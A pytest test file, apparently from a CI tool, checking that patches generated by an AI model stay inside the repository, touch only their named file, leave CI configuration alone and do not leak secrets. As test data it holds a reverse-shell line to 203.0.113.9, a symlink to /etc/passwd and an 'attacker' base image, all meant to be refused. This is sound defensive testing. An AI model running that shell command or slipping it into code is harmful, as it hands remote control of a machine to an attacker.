"""Patch reading, path safety and `git apply --check` against a real repository's head tree."""

from __future__ import annotations

import pytest

from ci_orch.config.gate import GateConfig
from ci_orch.diff.model import Diff
from ci_orch.diff.parse import parse_diff
from ci_orch.errors import UsageError
from ci_orch.gate import Redactor, run_gate
from ci_orch.gate.output import OutputScreen, with_withheld
from ci_orch.generate.chunks import _Failure, check_patch
from ci_orch.generate.ciconfig import ci_problem
from ci_orch.generate.gatescan import patch_texts
from ci_orch.generate.headtree import HeadTree
from ci_orch.generate.model import PatchResult
from ci_orch.generate.patches import PatchProblem, read_patch, recount
from ci_orch.generate.schema import ModelPatch
from ci_orch.generate.scope import header_paths, scope_problem
from ci_orch.generate.screen import blocked_by_gate, screen_patches
from ci_orch.generate.suggest import replaced_span
from ci_orch.generate.targets import normalise_targets, target_text
from ci_orch.report.build import author_blocking
from tests.conftest import GitRepo
from tests.test_review_pipeline import fake_github_token

CALC = "def add(a, b):\n    return a + b\n\n\ndef div(a, b):\n    return a / b\n"
FIX = "\n".join([
    "--- a/app/calc.py",
    "+++ b/app/calc.py",
    "@@ -4,3 +4,5 @@",
    " ",  # the blank line 4, as context
    " def div(a, b):",
    "-    return a / b",
    "+    if b == 0:",
    '+        raise ZeroDivisionError("b must not be 0")',
    "+    return a / b",
    "",
])


@pytest.fixture
def repo(git_repo: GitRepo) -> GitRepo:
    git_repo.write("app/calc.py", CALC)
    git_repo.commit("head")
    return git_repo


def test_wrong_hunk_counts_are_recounted() -> None:
    text = FIX.replace("@@ -4,3 +4,5 @@", "@@ -4,7 +4,1 @@")
    assert "@@ -4,3 +4,5 @@" in recount(text)
    patch = read_patch(text)
    assert patch.strip == 1 and patch.paths == ("app/calc.py",)
    assert [ln.text for ln in patch.diff.files[0].added_lines()][0] == "    if b == 0:"


@pytest.mark.parametrize(
    "path",
    ["../outside.py", "app/../../outside.py", "/etc/passwd", ".git/hooks/pre-commit", "C:/x.py"],
)
def test_paths_outside_the_repository_are_refused_without_retry(path: str) -> None:
    text = f"--- /dev/null\n+++ {path}\n@@ -0,0 +1 @@\n+x = 1\n"
    with pytest.raises(PatchProblem, match="refused path") as info:
        read_patch(text)
    assert info.value.retry is False


def test_binary_and_symlink_patches_are_refused() -> None:
    with pytest.raises(PatchProblem, match="binary"):
        read_patch("diff --git a/x b/x\nGIT binary patch\nliteral 0\n")
    link = ("diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n"
            "@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n")
    with pytest.raises(PatchProblem, match="symlinks"):
        read_patch(link)


def test_text_that_is_no_patch_can_be_retried() -> None:
    with pytest.raises(PatchProblem) as info:
        read_patch("I would add a test for div().")
    assert info.value.retry is True


def test_head_tree_checks_against_head_not_the_working_tree(repo: GitRepo) -> None:
    head = repo.git("rev-parse", "HEAD").strip()
    repo.write("app/calc.py", "something else entirely\n")  # a dirty checkout changes nothing
    with HeadTree(repo.path, head) as tree:
        assert tree.check(read_patch(FIX)) is None
        wrong = FIX.replace(" def div(a, b):", " def divide(a, b):")
        error = tree.check(read_patch(wrong))
        assert error is not None and "app/calc.py" in error
    assert (repo.path / "app/calc.py").read_text() == "something else entirely\n"
    assert repo.git("status", "--porcelain") == " M app/calc.py\n"  # the index is untouched


def test_a_one_hunk_patch_becomes_a_replacement_of_head_lines() -> None:
    hunk = parse_diff(FIX).files[0].hunks[0]
    start, end, text = replaced_span(hunk) or (0, 0, "")
    assert (start, end) == (6, 6)
    assert text.splitlines()[0] == "    if b == 0:" and text.endswith("return a / b")
    insertion = parse_diff("--- a/f\n+++ b/f\n@@ -1,1 +1,2 @@\n a\n+b\n").files[0].hunks[0]
    assert replaced_span(insertion) == (1, 1, "a\nb")


def test_targets_are_numbered_redacted_and_new_files_named(repo: GitRepo) -> None:
    head = repo.git("rev-parse", "HEAD").strip()
    with HeadTree(repo.path, head) as tree:
        text = target_text(tree, normalise_targets(["./app/", "tests/test_new.py"]), Redactor())
    assert "=== FILE app/calc.py ===" in text.text and "    6| " in text.text
    assert "tests/test_new.py (does not exist yet)" in text.text
    with pytest.raises(UsageError, match="outside the repository"):
        normalise_targets(["../elsewhere"])


def test_a_patch_copying_a_redaction_placeholder_is_sent_back() -> None:
    text = "--- /dev/null\n+++ b/conf.py\n@@ -0,0 +1 @@\n+KEY = '<redacted:github-token:1>'\n"
    with pytest.raises(PatchProblem, match="placeholder") as info:
        read_patch(text)
    assert info.value.retry is True


# --- a patch changes exactly the file it names -------------------------------------------

INNOCENT = "--- /dev/null\n+++ b/tests/innocent.py\n@@ -0,0 +1 @@\n+def test_ok(): pass\n"
SHELL = "+import os; os.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n"


@pytest.mark.parametrize(
    "text",
    [
        # a second file section
        INNOCENT + f"--- a/app/calc.py\n+++ b/app/calc.py\n@@ -1 +1,2 @@\n{SHELL} def add(a, b):\n",
        # the new side names another file than the old side
        f"--- a/tests/innocent.py\n+++ b/app/calc.py\n@@ -1 +1,2 @@\n{SHELL} def add(a, b):\n",
        # a git section with no hunks, only a header: it makes another file executable
        "diff --git a/app/calc.py b/app/calc.py\nold mode 100644\nnew mode 100755\n"
        "diff --git a/tests/innocent.py b/tests/innocent.py\nnew file mode 100644\n" + INNOCENT,
        # a rename into the stated path moves another file away
        "diff --git a/app/calc.py b/tests/innocent.py\nsimilarity index 90%\n"
        "rename from app/calc.py\nrename to tests/innocent.py\n"
        "--- a/app/calc.py\n+++ b/tests/innocent.py\n@@ -1 +1,2 @@\n"
        f"{SHELL} def add(a, b):\n",
    ],
    ids=["second-section", "old-new-disagree", "mode-only-section", "rename"],
)
def test_a_patch_reaching_beyond_its_stated_file_is_refused(text: str) -> None:
    problem = scope_problem(read_patch(text), "tests/innocent.py")
    assert problem is not None and "app/calc.py" in problem


def test_a_patch_naming_only_its_file_is_in_scope() -> None:
    git_style = "diff --git a/tests/innocent.py b/tests/innocent.py\nnew file mode 100644\n"
    for text in (INNOCENT, git_style + INNOCENT, FIX):
        patch = read_patch(text)
        stated = patch.paths[-1]
        assert scope_problem(patch, stated) is None
        assert scope_problem(patch, f"./{stated}") is None
    assert scope_problem(read_patch(INNOCENT), "") is not None  # a patch must name its file
    # Hunk bodies are skipped by their counts: a removed SQL comment is no header.
    sql = "--- a/db.sql\n+++ b/db.sql\n@@ -1,2 +1,1 @@\n--- drop me\n select 1;\n"
    assert list(header_paths(read_patch(sql))) == ["db.sql", "db.sql"]


# --- CI configuration ---------------------------------------------------------------------

def _new_file(path: str, body: str = "+x: 1\n") -> str:
    return f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n{body}"


@pytest.mark.parametrize(
    "path",
    [".github/workflows/ci.yml", ".github/actions/setup/action.yml", "tools/action.yaml",
     ".gitlab-ci.yml", ".gitlab/ci/build.yml", "ci/deploy.gitlab-ci.yml",
     ".pre-commit-config.yaml", ".circleci/config.yml", "Jenkinsfile", ".github/CODEOWNERS"],
)
def test_patches_to_ci_configuration_are_refused(path: str) -> None:
    problem = ci_problem(read_patch(_new_file(path)))
    assert problem is not None and problem.startswith(path)
    assert "generate.allow_ci_changes" in problem


@pytest.mark.parametrize(
    "path", ["src/workflows/ci.yml", "docs/gitlab-ci.md", ".github/ISSUE_TEMPLATE/bug.md",
             "Makefile", "tests/test_action.py", ".gitlab/issue_templates/bug.md"],
)
def test_ordinary_files_are_not_ci_configuration(path: str) -> None:
    assert ci_problem(read_patch(_new_file(path))) is None


DOCKERFILE = (
    "FROM python:3.12-slim\n"
    "# build deps\n"
    "RUN apt-get update \\\n"
    "    && apt-get install -y git \\\n"
    "    && rm -rf /var/lib/apt/lists/*\n"
    'LABEL org.opencontainers.image.title="app"\n'
    'ENTRYPOINT ["app"]\n'
)


def _docker_patch(old: str, new: str, start: int) -> str:
    lines = DOCKERFILE.splitlines()
    body = "".join(
        (f"-{old}\n+{new}\n" if ln == old else f" {ln}\n") for ln in lines[start - 1:]
    )
    return f"--- a/Dockerfile\n+++ b/Dockerfile\n@@ -{start} +{start} @@\n{body}"


@pytest.mark.parametrize(
    ("old", "new", "start", "what"),
    [
        ('ENTRYPOINT ["app"]', 'ENTRYPOINT ["sh", "-c", "app"]', 6, "ENTRYPOINT"),
        ("FROM python:3.12-slim", "FROM attacker/python:3.12", 1, "FROM"),
        # a continuation line, in a hunk that shows where its RUN starts
        ("    && apt-get install -y git \\", "    && apt-get install -y git curl \\", 2, "RUN"),
        # the same line in a hunk that starts inside the RUN: refused, not guessed
        ("    && apt-get install -y git \\", "    && apt-get install -y git curl \\", 4,
         "outside the hunk"),
    ],
)
def test_dockerfile_changes_to_what_runs_are_refused(
    old: str, new: str, start: int, what: str
) -> None:
    problem = ci_problem(read_patch(_docker_patch(old, new, start)))
    assert problem is not None and what in problem


@pytest.mark.parametrize(
    ("old", "new", "start"),
    [('LABEL org.opencontainers.image.title="app"', 'LABEL org.opencontainers.image.title="x"', 6),
     ("# build deps", "# build dependencies", 1)],
)
def test_dockerfile_labels_and_comments_may_change(old: str, new: str, start: int) -> None:
    assert ci_problem(read_patch(_docker_patch(old, new, start))) is None


def test_ci_changes_pass_when_allowed(repo: GitRepo) -> None:
    head = repo.git("rev-parse", "HEAD").strip()
    workflow = ModelPatch(path=".github/workflows/ci.yml", diff=_new_file(".github/workflows/ci.yml"))
    with HeadTree(repo.path, head) as tree:
        refused = check_patch(tree, workflow, "p")
        allowed = check_patch(tree, workflow, "p", allow_ci_changes=True)
    assert isinstance(refused, _Failure) and refused.result.status == "refused"
    assert refused.retry is False
    assert isinstance(allowed, PatchResult) and allowed.status == "applied"


# --- withheld model output ----------------------------------------------------------------

def _result(text: str, pid: str) -> PatchResult:
    patch = read_patch(text)
    return PatchResult(patch.paths[-1], "", "applied", patch=patch, id=pid)


def test_withheld_patches_are_model_output_in_the_gate_never_the_authors() -> None:
    token = fake_github_token()
    patches = [
        _result(_new_file("app/conf.py", f'+TOKEN = "{token}"\n'), "p001"),
        _result(_new_file("app/run.py", "+# SPDX-License-Identifier: AGPL-3.0-only\n"), "p002"),
        _result(INNOCENT, "p003"),
    ]
    screened, withheld = screen_patches(patches, OutputScreen.from_config(), None)
    assert [p.status for p in screened] == ["blocked", "applied", "applied"]
    assert [(w.kind, w.label, w.where) for w in withheld] == [("secret", "p001", "patch")]
    gate = run_gate(Diff(files=()), GateConfig(), model_outputs=list(patch_texts(screened[1:])),
                    baseline=frozenset())
    final = blocked_by_gate(screened, gate)
    assert [p.status for p in final] == ["blocked", "blocked", "applied"]
    assert final[1].reason == "model output withheld: license:license-spdx-denied"
    merged = with_withheld(gate, withheld)
    assert merged.blocked_outputs == ("p001", "p002")
    assert all(f.origin == "model" for f in merged.blocking)
    [secret] = [f for f in merged.blocking if f.label == "p001"]
    assert (secret.kind, secret.rule, secret.preview) == ("secret", "github-token", "")
    assert author_blocking(merged) == ()  # the author's change is clean: nothing to answer for
    assert token not in " ".join(p.reason for p in final) + repr(merged)
